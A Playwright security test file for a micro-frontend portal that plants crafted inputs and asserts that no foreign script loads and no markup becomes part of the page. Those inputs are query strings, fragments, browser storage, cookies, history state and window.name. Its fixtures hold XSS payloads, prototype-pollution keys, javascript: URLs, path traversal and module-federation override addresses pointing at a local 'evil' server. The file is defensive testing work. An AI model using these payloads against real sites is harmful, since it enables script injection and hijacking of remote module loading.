import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { BrowserContext, Page } from '@playwright/test';
import type { ReleaseDocument } from '@portal/contracts';
import { expect, type Portal, test } from '../fixtures/portal.ts';

const HTML = '<img src=x id="planted" onerror="window.planted=1"><script id="planted">window.planted=1</script>';

/** A site that would give its scripts to anyone, and counts the requests. */
let foreign: { readonly server: Server; readonly address: string; readonly asked: string[] };
test.beforeAll(async () => {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' });
    response.end('window.planted = 1; var mfe_content__1_0_0_ = { get: () => () => ({}), init: () => {} };');
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  foreign = { server, asked, address: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
});
test.afterAll(() => new Promise<void>((closed) => void foreign.server.close(() => closed())));

/** What someone else may have prepared for a visitor: the rest of the address, or something stored in the browser. */
interface Crafted {
  readonly link?: (evil: string) => string;
  readonly local?: (evil: string) => Record<string, unknown>;
  readonly session?: (evil: string) => Record<string, unknown>;
  readonly cookies?: (evil: string) => Record<string, string>;
  /** Runs in the page before anything else. */
  readonly before?: (evil: string) => void;
}

const CRAFTED: Record<string, Crafted> = {
  'a query that names a remote and its entry': { link: (evil) => `?remote=mfe_content__1_0_0_&entry=${evil}/remoteEntry.js` },
  'a query that overrides a remote': { link: (evil) => `?mf-override=mfe_content@${evil}/mf-manifest.json&mf_override=1` },
  'a query for the federation’s global': {
    link: (evil) =>
      `?__federation__=${encodeURIComponent(JSON.stringify({ remotes: { 'mfe-content': evil } }))}&__FEDERATION__[__GLOBAL_PLUGIN__]=x`,
  },
  'a query that names another release of an app': {
    link: () => '?mfe-content=0.0.1&release=../../evil&version=9.9.9&live=/evil/live.json',
  },
  'a query with keys of the prototype': {
    link: (evil) => `?__proto__[entry]=${evil}/a.js&constructor[prototype][base]=${evil}/&__proto__.previous=1`,
  },
  'a fragment that looks like the live document': {
    link: (evil) => `#portal-live=${encodeURIComponent(JSON.stringify({ apps: [{ base: `${evil}/` }] }))}`,
  },
  'a fragment that is a script address': { link: () => '#javascript:window.planted=1' },
  'a fragment that is markup': { link: () => `#module=${encodeURIComponent(HTML)}` },
  'a query that is markup': { link: () => `?q=${encodeURIComponent(HTML)}&theme=${encodeURIComponent(HTML)}` },
  'keys of the federation’s developer tools': {
    local: (evil) => ({
      __MF_DEVTOOLS__: { overrides: { mfe_content__1_0_0_: `${evil}/mf-manifest.json` } },
      'federation-override': { 'mfe-content': `${evil}/remoteEntry.js` },
      'federation-override:mfe_content__1_0_0_': `${evil}/remoteEntry.js`,
      mfDevtools: { enableSnapshot: true, proxy: evil },
      FEDERATION_DEBUG: '1',
      'importmap-override:mfe-content': `${evil}/a.js`,
    }),
  },
  'progress that holds addresses and markup': {
    local: (evil) => ({
      'portal.curriculum.completed': [1, `${evil}/a.js`, HTML, null, { entry: evil }],
      'portal.curriculum.bookmarked': { 0: HTML },
      'portal.curriculum.notes': { 1: HTML, 2: `javascript:window.planted=1`, [HTML]: HTML, constructor: HTML },
      'portal.research-path.completed': HTML,
      'portal.ethical-ai.completed': HTML,
      'portal.ethical-ai.progress': { checklist: [HTML, -1, 1e99], quizAnswers: { 1: HTML }, percentComplete: HTML },
    }),
  },
  'progress with keys of the prototype': {
    before: () => {
      for (const key of ['portal.curriculum.notes', 'portal.ethical-ai.progress', 'portal.settings'])
        localStorage.setItem(
          key,
          '{"__proto__":{"planted":1,"entry":"/evil.js","theme":"dark"},"constructor":{"prototype":{"planted":1}}}',
        );
    },
  },
  'a theme that is markup, and settings that name scripts': {
    local: (evil) => ({ 'portal.settings': { theme: HTML, remotes: evil, entry: `${evil}/a.js`, stylesheet: `${evil}/a.css` } }),
  },
  'keys that look like the portal’s own': {
    local: (evil) => ({ 'portal.live': { apps: [{ base: evil }] }, 'portal-live': evil, 'portal.releases': { 'mfe-content': '0.0.1' } }),
  },
  'a hand-over between pages that is a script address': {
    session: (evil) => ({
      'portal.target-module': `javascript:import("${evil}/a.js")`,
      'react-router-scroll-positions': { default: HTML },
    }),
  },
  'a hand-over of a number that no module has': { session: () => ({ 'portal.target-module': 987_654_321 }) },
  'cookies that name releases': {
    cookies: (evil) => ({ 'mfe-content': '0.0.1', release: '9.9.9', 'portal.live': encodeURIComponent(evil), mf_override: 'mfe_content' }),
  },
  'a history entry with addresses and keys of the prototype': {
    before: (evil) =>
      history.replaceState({ usr: { openedBy: `${evil}/a.js`, cameFrom: '<b id="planted">' }, key: '__proto__', idx: '0' }, ''),
  },
  'a window name that is a script': {
    before: (evil) => {
      window.name = JSON.stringify({ remotes: { 'mfe-content': `${evil}/a.js` } });
    },
  },
};

/** Every script that the live document, the live shell or the page's own HTML names. */
function allowedScripts({ live, storeDir, address }: Portal): Set<string> {
  const { shell, apps } = live();
  const folder = `releases/shell/${shell.version}`;
  const { files } = JSON.parse(readFileSync(path.join(storeDir, folder, 'release.json'), 'utf8')) as ReleaseDocument;
  return new Set([
    ...Object.keys(files).map((file) => `${address}/${folder}/web/${file}`),
    ...apps.flatMap(({ base, integrity }) => Object.keys(integrity).map((file) => address + base + file)),
  ]);
}

/** Records the address of everything that a page loads in order to run it. */
function watchScripts(page: Page): string[] {
  const loaded: string[] = [];
  page.on('request', (request) => request.resourceType() === 'script' && loaded.push(request.url()));
  page.on('worker', (worker) => loaded.push(worker.url()));
  return loaded;
}

async function plant(context: BrowserContext, portal: Portal, { local, session, cookies, before }: Crafted): Promise<void> {
  const evil = foreign.address;
  await context.addInitScript(
    ({ kept, passing }) => {
      const write = (storage: Storage, values: object) => {
        for (const [key, value] of Object.entries(values)) storage.setItem(key, typeof value === 'string' ? value : JSON.stringify(value));
      };
      write(localStorage, kept);
      write(sessionStorage, passing);
    },
    { kept: local?.(evil) ?? {}, passing: session?.(evil) ?? {} },
  );
  if (before) await context.addInitScript(before, evil);
  await context.addCookies(Object.entries(cookies?.(evil) ?? {}).map(([name, value]) => ({ name, value, url: portal.address })));
}

/** Waits until the frame's effects have run, which shows in the router taking over scrolling, and no other effect is pending. */
async function settled(page: Page): Promise<void> {
  await page.waitForFunction(() => history.scrollRestoration === 'manual');
  await page.evaluate(() => new Promise((idle) => requestIdleCallback(idle, { timeout: 2000 })));
}

/** What only an attacker can have put into a page. */
function planted(page: Page): Promise<unknown> {
  return page.evaluate(() => ({
    elements: document.querySelectorAll('#planted').length,
    ran: 'planted' in window || 'planted' in Object.prototype,
    scripts: document.querySelectorAll(
      'script:not([src]):not([type="application/json"], [type="application/ld+json"]), iframe, base, object, embed',
    ).length,
  }));
}

for (const [what, crafted] of Object.entries(CRAFTED))
  test(`${what}: no script but the live ones is loaded, and nothing of it becomes part of the page`, { tag: ['@shell', '@long'] }, async ({
    page,
    context,
    portal,
  }) => {
    await plant(context, portal, crafted);
    const loaded = watchScripts(page);
    // A link is crafted for one page; what is stored in the browser is read by many.
    for (const address of crafted.link ? ['/modules'] : ['/modules', '/ethical-ai-module']) {
      await page.goto(address + (crafted.link?.(foreign.address) ?? ''));
      await settled(page);
      expect(await planted(page)).toEqual({ elements: 0, ran: false, scripts: 0 });
    }
    const allowed = allowedScripts(portal);
    expect(loaded.length).toBeGreaterThan(3);
    expect(loaded.filter((script) => !allowed.has(script))).toEqual([]);
    expect(foreign.asked).toEqual([]);
  });

test('a script of another release or another site would be noticed, and the policy keeps the foreign one from running', {
  tag: ['@shell', '@long'],
}, async ({ page, portal, complaints }) => {
  const loaded = watchScripts(page);
  await page.goto('/modules');
  const scripts = [`${portal.address}/releases/mfe-content/0.0.1/web/remoteEntry.js`, `${foreign.address}/a.js`];
  await page.evaluate(async (addresses) => {
    for (const src of addresses)
      await new Promise((done) =>
        document.head.append(Object.assign(document.createElement('script'), { src, onload: done, onerror: done })),
      );
  }, scripts);
  const allowed = allowedScripts(portal);
  expect(loaded.filter((script) => !allowed.has(script))).toContain(scripts[0]);
  expect(foreign.asked).toEqual([]);
  expect(await planted(page)).toMatchObject({ ran: false });
  expect(complaints.join('\n')).toContain('Content Security Policy');
  complaints.length = 0;
});
